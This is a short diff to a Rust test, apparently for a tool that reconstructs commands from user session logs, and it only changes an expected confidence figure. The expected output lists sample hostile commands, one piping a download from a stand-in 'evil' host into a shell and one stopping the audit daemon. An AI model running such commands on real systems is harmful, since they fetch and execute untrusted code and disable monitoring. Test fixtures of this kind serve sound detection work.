@@ -805,7 +805,7 @@ fn a_second_object_of_an_id_that_holds_something_else_stands_beside_the_first() 
         world.run("show alice-0123456789abcdef1#1 --commands").is(expect![[r#"
             ≤ 2026-11-20 10:00:00Z  alice (by its session id) on an unknown target  alice-0123456789abcdef1#1 (account unknown)
                 1  ?          curl http://evil/x | sh
-                2  ?          systemctl stop auditd [79 % sure]
+                2  ?          systemctl stop auditd [78 % sure]
                 3  ?          exit
             ! note: copies of the session differ; each is kept and searched: alice-0123456789abcdef1#1 from one/alice-0123456789abcdef1.log, alice-0123456789abcdef1#2 from two/alice-0123456789abcdef1.log
         "#]]);
